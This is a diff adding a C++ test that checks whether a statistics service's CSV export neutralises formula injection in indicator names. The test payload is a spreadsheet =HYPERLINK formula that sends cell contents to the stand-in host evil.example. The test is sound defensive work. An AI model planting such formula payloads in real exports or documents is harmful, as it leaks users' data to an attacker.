@@ -288,6 +288,37 @@ TEST_P(RobustnessTest, NamesAreValidUtf8AndCutByCharactersSoListingsNeverFail) {
   }
 }
 
+// The CSV export at the API's door: an indicator named like a formula is exported as text.
+TEST_P(RobustnessTest, TheCsvExportNeutralisesFormulas) {
+  Browser browser(port_);
+  ASSERT_EQ(browser.LogIn("anna@example.se", kPassword), 200);
+  std::string csv = "kommun;kon;behorig\n";
+  for (int i = 0; i < 400; ++i)
+    csv += std::string(i % 2 ? "1880;" : "1881;") + (i % 3 ? "K;" : "M;") + (i % 4 ? "1\n" : "0\n");
+  const auto uploaded = browser.Upload(Path("/datasets"), "a.csv", csv);
+  ASSERT_EQ(uploaded->status, 201) << uploaded->body;
+  const std::string formula = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"klicka\")";
+  const json request = {{"name", "Formel"},
+                        {"dataset_id", JsonOf(uploaded).at("id")},
+                        {"areas", {"kommun"}},
+                        {"dimensions", {"kon"}},
+                        {"indicators",
+                         {{{"id", "behorig"},
+                           {"name_sv", formula},
+                           {"type", "proportion"},
+                           {"numerator", "behorig"},
+                           {"higher_is_favourable", true}}}}};
+  const auto created = browser.Send("POST", Path("/analyses"), request);
+  ASSERT_EQ(created->status, 201) << created->body;
+  const auto exported = browser.Get(Path(
+      "/analyses/" + std::to_string(JsonOf(created).at("id").get<int>()) + "/export?format=csv"));
+  ASSERT_EQ(exported->status, 200);
+  EXPECT_NE(exported->body.find("\"'=HYPERLINK("), std::string::npos)
+      << exported->body.substr(0, 400);
+  EXPECT_EQ(exported->body.find(";\"=HYPERLINK("), std::string::npos);
+  EXPECT_EQ(exported->body.find(",\"=HYPERLINK("), std::string::npos);
+}
+
 INSTANTIATE_TEST_SUITE_P(Backends, RobustnessTest, ::testing::ValuesIn(store::testing::Backends()),
                          store::testing::BackendName);
 
